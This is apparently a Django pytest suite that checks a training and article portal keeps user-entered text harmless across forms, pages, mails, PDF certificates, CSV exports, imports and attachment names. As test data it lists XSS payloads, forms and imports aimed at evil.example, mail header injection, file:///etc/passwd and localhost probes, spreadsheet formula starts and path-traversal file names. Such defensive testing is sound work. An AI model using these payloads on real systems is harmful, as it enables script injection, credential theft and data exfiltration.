"""What people write stays what they wrote: text. In every field, on every page that shows it to others, in mails and in files."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction

from portal.articles.actions import copying, publishing, releasing
from portal.articles.models import ArticleRevision, Attachment, Release, Topic, WorkingCopy
from portal.people import mailing
from portal.people.models import Department, JobRole, Membership, Person
from portal.people.names import normal_name
from tests.house import matrix
from tests.house.matrix import Row, parametrise
from tests.security.asking import Answer, ask, browser
from tests.security.nasty import CANARY, HIDDEN, PAYLOADS, TEXTS, Reader
from training import paper
from training.models import AttemptGrant, Certificate, Course

pytestmark = pytest.mark.django_db
READABLE = matrix.readable()


@pytest.fixture(autouse=True)
def quiet() -> Iterator[None]:
    logging.disable(logging.CRITICAL)
    yield
    logging.disable(logging.NOTSET)


def page(world: SimpleNamespace, role: str, address: str) -> Answer:
    answer = ask(browser(world, role), "GET", address.format_map(world.places))
    assert answer.response.status_code == 200, address
    return answer


# Writing: each field takes a text exactly, or refuses it and says so


@dataclass(frozen=True)
class Field:
    """A field somebody may write: how it is sent, where it is kept, who then sees it where."""

    role: str
    address: str
    sent: Callable[[SimpleNamespace, str], dict[str, Any]]
    kept: Callable[[SimpleNamespace], Any]
    shown: tuple[tuple[str, str], ...] = ()
    name: bool = True  # hidden marks are refused

    def send(self, world: SimpleNamespace, value: str) -> Answer:
        answer = ask(browser(world, self.role), "POST", self.address.format_map(world.places), self.sent(world, value))
        if self.address == EDIT and answer.response.status_code == 302:
            show(world)
        return answer


def new_person(world: SimpleNamespace, value: str) -> dict[str, Any]:
    return {
        "email": "new@example.com",
        "display_name": value,
        "language": "en",
        "time_zone": "UTC",
        "department": world.export.pk,
        "starts": "2026-01-01",
    }


def department(world: SimpleNamespace, value: str) -> dict[str, Any]:
    return {"name_en": value, "code": "new", "parent": world.sales.pk, "heads-TOTAL_FORMS": 0, "heads-INITIAL_FORMS": 0}


def edition(world: SimpleNamespace, **more: str) -> dict[str, Any]:
    words = {
        "title": "Title",
        "summary": "Summary.",
        "body": "Members choose. [@T6]\n",
        "change_note": "Why.",
        **vars(copying.Mark.of(WorkingCopy.objects.current().get(person=world.erin, article=world.article))),
        "person": world.erin.pk,
    }
    return words | more | {"hand_in": "1"}


def show(world: SimpleNamespace) -> None:
    """What Erin has handed in reaches its readers."""
    release = Release.objects.get(revision=newest(world))
    publishing.publish(releasing.approve(release, by=world.xena), by=world.erin)


def newest(world: SimpleNamespace) -> Any:
    return ArticleRevision.objects.filter(article=world.article).order_by("-number").first()


EDIT = "/desk/articles/{article}/en/"
READERS = (("alice", "/articles/"), ("alice", "/articles/{article}/"), ("alice", "/facts/{fact}/"), ("alice", "/search/?q=members"))
KEEPERS = (
    ("erin", "/admin/articles/article/"),
    ("erin", "/desk/articles/{article}/"),
    ("erin", "/desk/articles/{article}/en/history/"),
    ("audrey", "/desk/articles/{article}/en/compare/"),
)
FIELDS = {
    "name": Field(
        "xena",
        "/admin/people/person/add/",
        new_person,
        lambda world: Person.objects.filter(email="new@example.com").values_list("display_name", flat=True).first(),
        (
            ("xena", "/admin/people/person/"),
            ("xena", "/admin/people/auditentry/"),
            ("xena", "/admin/people/person/{new}/change/"),
            ("bob", "/team/people/{new}/"),
        ),
    ),
    "department": Field(
        "xena",
        "/admin/people/department/add/",
        department,
        lambda world: (Department.objects.filter(code="new").values_list("name", flat=True).first() or {}).get("en"),
        (("xena", "/admin/people/department/"), ("bob", "/team/"), ("bob", "/team/people/"), ("bob", "/team/assign/")),
    ),
    "job role": Field(
        "xena",
        "/admin/people/jobrole/add/",
        lambda world, value: {"name_en": value, "code": "new"},
        lambda world: (JobRole.objects.filter(code="new").values_list("name", flat=True).first() or {}).get("en"),
        (("xena", "/admin/people/jobrole/"), ("xena", "/admin/people/person/add/")),
    ),
    "topic": Field(
        "erin",
        "/admin/articles/topic/add/",
        lambda world, value: {"slug": "new", "title_en": value, "title_zh": value, "position": 1},
        lambda world: (Topic.objects.filter(slug="new").values_list("title", flat=True).first() or {}).get("en"),
        (("erin", "/admin/articles/topic/"), ("erin", "/desk/new/"), ("erin", "/desk/?tab=articles"), ("erin", "/admin/articles/article/")),
        name=False,
    ),
    "title": Field(
        "erin", EDIT, lambda world, value: edition(world, title=value), lambda world: newest(world).title, READERS + KEEPERS, name=False
    ),
    "summary": Field(
        "erin", EDIT, lambda world, value: edition(world, summary=value), lambda world: newest(world).summary, READERS + KEEPERS, name=False
    ),
    "change note": Field(
        "erin", EDIT, lambda world, value: edition(world, change_note=value), lambda world: newest(world).change_note, KEEPERS, name=False
    ),
    "reason": Field(
        "xena",
        "/admin/training/attemptgrant/add/",
        lambda world, value: {"person": world.bob.pk, "quiz": world.running.quiz_id, "reason": value},
        lambda world: AttemptGrant.objects.filter(person=world.bob).values_list("reason", flat=True).first(),
        (("xena", "/admin/training/attemptgrant/"), ("audrey", "/admin/people/auditentry/")),
        name=False,
    ),
    "why revoked": Field(
        "xena",
        "/admin/training/certificate/{certificate_pk}/change/",
        lambda world, value: {"revoked_why": value},
        lambda world: Certificate.objects.get(pk=world.certificate.pk).revoked_why,
        (
            ("xena", "/admin/training/certificate/{certificate_pk}/change/"),
            ("alice", "/certificates/{certificate}/"),
            ("anon", "/verify/{public}/"),
        ),
        name=False,
    ),
}


@pytest.mark.parametrize("name", FIELDS)
def test_a_text_is_kept_exactly_or_refused(world: SimpleNamespace, name: str) -> None:
    field = FIELDS[name]
    for what, value in (TEXTS | HIDDEN | {"long": "x" * 10_000}).items():
        with transaction.atomic():
            before = field.kept(world)
            answer = field.send(world, value)
            after, status = field.kept(world), answer.response.status_code
            transaction.set_rollback(True)
        refused = status in {200, 400, 422} and after == before
        if what == "nul" or (field.name and what in HIDDEN):
            assert refused, what
        elif what in TEXTS:
            assert (status, after) == (302, normal_name(value) if field.name else value.strip()), what
        else:
            assert refused or after.replace("\r\n", "\n") == value.replace("\r\n", "\n").strip(), what


@pytest.mark.parametrize("name", FIELDS)
def test_a_page_shows_it_as_text(world: SimpleNamespace, name: str) -> None:
    """The same elements and attributes as with a harmless word, and the payload to be read."""
    field = FIELDS[name]
    shapes: dict[tuple[str, str], Any] = {}
    for payload in ("Harmless", PAYLOADS[1], PAYLOADS[3], PAYLOADS[5]):
        with transaction.atomic():
            assert field.send(world, payload).response.status_code == 302, payload
            made = Person.objects.filter(email="new@example.com").values_list("pk", flat=True).first()
            if made:
                Membership.objects.filter(person=made).update(starts="2026-01-01")
            for role, address in field.shown:
                path = address.replace("{new}", str(made))
                reader = Reader(page(world, role, path).text)
                assert not reader.escaped, (address, payload)
                assert shapes.setdefault((role, address), shape(reader)) == shape(reader), (address, payload)
            transaction.set_rollback(True)


def shape(reader: Reader) -> list[tuple[str, tuple[str, ...]]]:
    """Elements and attributes; the marks of a search and the paragraphs' own are the same for any word."""
    return [element for element in reader.elements if element[0] not in {"mark", "wbr"}]


def test_payloads_are_read_where_names_stand(world: SimpleNamespace) -> None:
    """Names as they may come by other ways than the forms (an import, a restored backup): on every page that shows Alice to others."""
    payload = PAYLOADS[1]
    Person.objects.filter(pk=world.alice.pk).update(display_name=payload, employee_number=f"1{payload}")
    Department.objects.filter(pk=world.export.pk).update(name={"en": payload, "zh-hans": payload})
    JobRole.objects.update(name={"en": payload})
    Course.objects.filter(pk=world.second.pk).update(
        title={"en": payload, "zh-hans": payload}, lede={"en": payload}, outcomes={"en": [payload]}
    )
    Certificate.objects.filter(pk=world.certificate.pk).update(holder=payload, course_title={"en": payload}, company=payload)
    Topic.objects.update(title={"en": payload})
    shown = 0
    for role, address in (
        ("bob", "/"),
        ("bob", "/team/"),
        ("bob", "/team/?department={export}"),
        ("bob", "/team/people/"),
        ("bob", "/team/people/{alice}/"),
        ("bob", "/team/assign/"),
        ("bob", "/attempts/{attempt}/result/"),
        ("bob", "/certificates/{certificate}/"),
        ("anon", "/verify/{public}/"),
        ("alice", "/"),
        ("alice", "/me/"),
        ("alice", "/courses/"),
        ("alice", "/courses/{second}/"),
        ("alice", "/courses/{second}/lessons/first/"),
        ("alice", "/courses/{second}/final/"),
        ("alice", "/attempts/{running}/"),
        ("alice", "/certificates/"),
        ("alice", "/articles/"),
        ("alice", "/accounts/2fa/"),
        ("alice", "/no-such-page/"),
        ("xena", "/admin/people/person/"),
        ("xena", "/admin/people/person/{alice}/change/"),
        ("xena", "/admin/people/person/{alice}/history/"),
        ("xena", "/admin/people/department/"),
        ("xena", "/admin/people/department/{export}/change/"),
        ("xena", "/admin/people/auditentry/"),
        ("xena", "/admin/training/course/"),
        ("xena", "/admin/training/certificate/"),
        ("xena", "/admin/training/assignment/add/"),
        ("xena", "/admin/training/attemptgrant/"),
        ("xena", "/admin/articles/article/"),
    ):
        answer = ask(browser(world, role), "GET", address.format_map(world.places))
        assert answer.response.status_code in {200, 404}, address
        reader = Reader(answer.text)
        assert not reader.escaped, address
        shown += CANARY in reader.text or any(CANARY in value for value in reader.values)
    assert shown > 20
    found = ask(browser(world, "xena"), "GET", "/admin/autocomplete/?app_label=people&model_name=membership&field_name=department&term=")
    assert found.response["Content-Type"] == "application/json" and payload in [row["text"] for row in json.loads(found.text)["results"]]


def test_answers_are_read_as_text(world: SimpleNamespace) -> None:
    """What somebody types into a quiz is shown to their head as they typed it, refused where it is no answer."""
    client = browser(world, "alice")
    for payload in PAYLOADS:
        answer = ask(client, "POST", f"/attempts/{world.running.pk}/answers/", {"r1": "0", "q1": [payload]})
        assert answer.response.status_code == 422 and not answer.written
        assert not Reader(answer.text).escaped, payload
        more = ask(client, "POST", "/me/", {"language": payload, "time_zone": payload})
        assert more.response.status_code == 200 and not more.written and not Reader(more.text).escaped, payload
        signing = ask(browser(world, "anon"), "POST", "/accounts/login/", {"login": payload, "password": payload})
        assert signing.response.status_code == 200 and not Reader(signing.text).escaped, payload


BODIES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<svg><use href=data:image/svg+xml,1 /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;'>",
    "[a](javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html,1)",
    "[a](vbscript:1)",
    "[a](//evil.example)",
    "[a](\x01javascript:1)",
    "<javascript:alert(1)>",
    "![a](https://evil.example/a.png)",
    '[a](https://example.com "title\\" onmouseover=1 ")',
    "[a]: javascript:alert(1)\n\n[a]",
]
BAD = {"script", "img", "iframe", "style", "base", "meta", "svg", "math", "object", "embed", "input", "form"}


@pytest.mark.parametrize("body", BODIES)
def test_an_article_holds_nothing_that_runs(world: SimpleNamespace, body: str) -> None:
    """Refused with the line named, or published as harmless text; the preview is as strict."""
    text = f"Members choose. [@T6]\n\n{body}\n"
    client = browser(world, "erin")
    preview = ask(client, "POST", "/desk/articles/{article}/en/preview".format_map(world.places), {"body": text})
    pages = [preview.text]
    answer = ask(client, "POST", EDIT.format_map(world.places), edition(world, body=text))
    assert answer.response.status_code in {200, 302}
    if answer.response.status_code == 302:
        show(world)
        whole = page(world, "alice", "/articles/{article}/").text
        pages.append(whole[whole.index('<div class="prose">') : whole.index('<section id="sources"')])
    for shown in pages:
        reader = Reader(shown)
        assert not reader.escaped
        assert not BAD & {tag for tag, _names in reader.elements} - ({"svg"} if "icon" in shown else set())
        assert not [target for target in reader.targets if "evil" in target]


# What the address says


PARAMETERS = ["q", "next", "department", "scope", "course", "state", "page", "lang", "kind", "countermeasure", "language", "from", "to"]
PARAMETERS += ["o", "all", "sort", "order_by", "e", "p", "term", "_popup", "_to_field"]
MADE_OF_TEXT = [row for row in READABLE if "?" not in row.address]
ASKED = [row for row in MADE_OF_TEXT if not row.address.endswith(("/history/", "/delete/")) and row.expected("xena") in {"200", "404"}]


@pytest.mark.parametrize(**parametrise(ASKED))
def test_what_an_address_asks_for_is_never_markup(world: SimpleNamespace, row: Row) -> None:
    role = next((role for role in ("alice", "bob", "erin", "xena") if row.expected(role) == "200"), "xena")
    client = browser(world, role)
    for payload in (PAYLOADS[1], "a\x00b"):
        query = urlencode(dict.fromkeys(PARAMETERS, payload))
        answer = ask(client, "GET", f"{row.path(world.places)}?{query}")
        assert answer.response.status_code < 500, payload
        assert not Reader(answer.text if "html" in answer.response.get("Content-Type", "") else "").escaped, payload


@pytest.mark.parametrize("parameter", PARAMETERS)
def test_each_parameter_alone(world: SimpleNamespace, parameter: str) -> None:
    for role, address in (
        ("bob", "/team/people/"),
        ("alice", "/search/"),
        ("alice", "/articles/{article}/"),
        ("anon", "/accounts/login/"),
        ("xena", "/admin/people/person/"),
        ("xena", "/admin/training/course/"),
    ):
        for payload in (PAYLOADS[10], "\x00"):
            answer = ask(browser(world, role), "GET", f"{address.format_map(world.places)}?{parameter}={quote(payload)}")
            assert answer.response.status_code < 500, (address, payload)
            assert not Reader(answer.text).escaped, (address, payload)


SAME = (
    "/admin/training/",
    "/admin/people/dep",
    "/admin/people/job",
    "/admin/people/aud",
    "/admin/articles/f",
    "/admin/articles/s",
    "/admin/articles/t",
)
PATHS = sorted({row.address for row in MADE_OF_TEXT if "{" in row.address and not row.address.startswith(SAME)})


@pytest.mark.parametrize("address", PATHS)
def test_no_part_of_a_path_is_markup(world: SimpleNamespace, address: str) -> None:
    for part in (PAYLOADS[1], "a\x00b", "9" * 30, "\udc80", "x" * 5000, "%2e%2e%2f"):
        path = address
        for name in world.places:
            path = path.replace(f"{{{name}}}", quote(part.encode("utf-8", "surrogateescape")))
        answer = ask(browser(world, "xena"), "GET", path)
        assert answer.response.status_code < 500, part
        assert not Reader(answer.text if "html" in answer.response.get("Content-Type", "") else "").escaped, part


def test_error_pages_repeat_nothing(world: SimpleNamespace) -> None:
    client = browser(world, "alice")
    for answer in (
        ask(client, "GET", f"/no/{quote(PAYLOADS[1])}/"),
        ask(client, "GET", "/", headers={"Host": f"evil.example{PAYLOADS[1]}"}),
        ask(client, "GET", "/", headers={"Host": "evil.example"}),
        ask(client, "GET", f"/team/people.csv?department={quote(PAYLOADS[1])}"),
        ask(browser(world, "alice", enforce_csrf_checks=True), "POST", "/me/", {"language": PAYLOADS[1]}, headers={"Referer": PAYLOADS[1]}),
    ):
        assert 400 <= answer.response.status_code < 500
        assert not Reader(answer.text).escaped
        assert "evil.example" not in answer.text


# Other ways out


def test_a_mail_says_it_in_one_line_and_in_plain_text(world: SimpleNamespace) -> None:
    for value in (*PAYLOADS, *TEXTS.values(), "Alice\r\nBcc: evil@example.com", "Alice\nSubject: evil"):
        world.alice.display_name = value
        message = mailing.compose("people/email/set_password", world.alice, password_reset_url="https://portal.example.com/x")
        whole = message.message()
        assert whole.get_content_type() == "text/plain"
        assert (whole["To"], len(whole.get_all("To") or []), whole["Bcc"]) == ("alice@example.com", 1, None)
        assert "evil" not in str(whole["Subject"])
        assert "&lt;" not in message.body or "&lt;" in value
        if "\n" not in value:
            assert value in message.body, "read as it was written"
    world.alice.refresh_from_db()
    assert not mail.outbox


def test_a_certificate_prints_what_stands_in_it(world: SimpleNamespace) -> None:
    """No mark-up of the PDF library is obeyed: nothing is opened, nothing asked for."""
    for value in (
        *PAYLOADS,
        *TEXTS.values(),
        *HIDDEN.values(),
        '<img src="file:///etc/passwd"/>',
        '<a href="http://127.0.0.1:1/">x</a>',
        "x" * 120,
    ):
        if "\x00" not in value:
            world.certificate.holder, world.certificate.course_title, world.certificate.company = value, {"en": value}, value
            made = paper.certificate_pdf(world.certificate, "https://portal.example.com/verify/x/").getvalue()
            assert made.startswith(b"%PDF-") and b"root:x:0" not in made and b"/URI (http://127" not in made
    world.certificate.refresh_from_db()


STARTS = ["=1+1", "+1", "-1+cmd", "@SUM(1)", "\t=1", "＝1+1", ";=1", '"=1', " =1", "'=1", ",=1"]


def test_a_spreadsheet_computes_nothing(world: SimpleNamespace) -> None:
    """Every column of the managers' file: no cell begins a formula, each reads as it was written, numbers stay numbers."""
    for start in STARTS:
        with transaction.atomic():
            Person.objects.filter(pk=world.alice.pk).update(display_name=start, employee_number=start, email=f"{start}@example.com")
            Department.objects.filter(pk=world.export.pk).update(name={"en": start, "zh-hans": start})
            Course.objects.update(title={"en": start, "zh-hans": start})
            text = page(world, "bob", "/team/people.csv").text
            transaction.set_rollback(True)
        head, *rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
        assert rows and len(head) == 13
        for row in rows:
            assert not [cell for cell in row if cell[:1] in "=+-@\t\r\n\uff1d" and cell], start
            assert row[0] == "Bob Li" or row[0].removeprefix("'") in {start, start.removeprefix("'")}
            assert row[8].isdecimal() and row[9].isdecimal()


def test_what_an_import_shows_is_text(world: SimpleNamespace) -> None:
    """The preview names what is new and what is wrong, cell by cell; the list afterwards shows the same."""
    rows = [["email", "name", "department"], *([f"new{n}@example.com", payload, "export"] for n, payload in enumerate(PAYLOADS))]
    rows += [[f"wrong{n}{payload}", payload, payload] for n, payload in enumerate(PAYLOADS)]
    for chosen in (rows, rows[: len(PAYLOADS) + 1]):
        text = io.StringIO()
        csv.writer(text).writerows(chosen)
        file = SimpleUploadedFile(f"a{PAYLOADS[1].replace('/', '')}.csv", text.getvalue().encode())
        answer = ask(browser(world, "xena"), "POST", "/admin/people/person/import/", {"file": file})
        assert answer.response.status_code == (422 if chosen is rows else 200)
        reader = Reader(answer.text)
        assert not reader.escaped and CANARY in reader.text
    sent = {name: value for name, value in hidden_fields(answer.text).items() if name in {"kept", "digest"}}
    assert ask(browser(world, "xena"), "POST", "/admin/people/person/import/confirm/", sent).outcome == "302+"
    assert set(PAYLOADS) == set(Person.objects.filter(email__startswith="new").values_list("display_name", flat=True))
    assert not Reader(page(world, "xena", "/admin/people/person/?q=new").text).escaped


def hidden_fields(text: str) -> dict[str, str]:
    class Inputs(Reader):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            super().handle_starttag(tag, attrs)
            found = dict(attrs)
            if tag == "input" and found.get("name"):
                fields[str(found["name"])] = found.get("value") or ""

    fields: dict[str, str] = {}
    Inputs(text)
    return fields


@pytest.mark.parametrize(
    "name", ['a"><xss-canary>.pdf', "a\u202efdp.exe", "a\r\nb.pdf", "../../etc/passwd", "x" * 300 + ".pdf", "=1+1.pdf", "a;b=c.pdf"]
)
def test_a_files_name_is_kept_harmless(world: SimpleNamespace, name: str) -> None:
    """Attached in the admin site and fetched by a reader: one header line, no folder, no hidden mark, no mark-up on the page."""
    attachment = Attachment.objects.get(pk=world.article_file.pk)
    Attachment.objects.filter(pk=attachment.pk).update(name=name[:200].replace("\r\n", ""), title=name[:200].replace("\x00", ""))
    answer = page(world, "alice", "/files/{file}/")
    said = answer.response["Content-Disposition"]
    assert said.startswith("attachment;") and "\n" not in said and '"><' not in said.replace('\\"', "")
    assert not Reader(page(world, "alice", "/articles/{article}/").text).escaped
    assert not Reader(page(world, "erin", "/desk/articles/{article}/").text).escaped
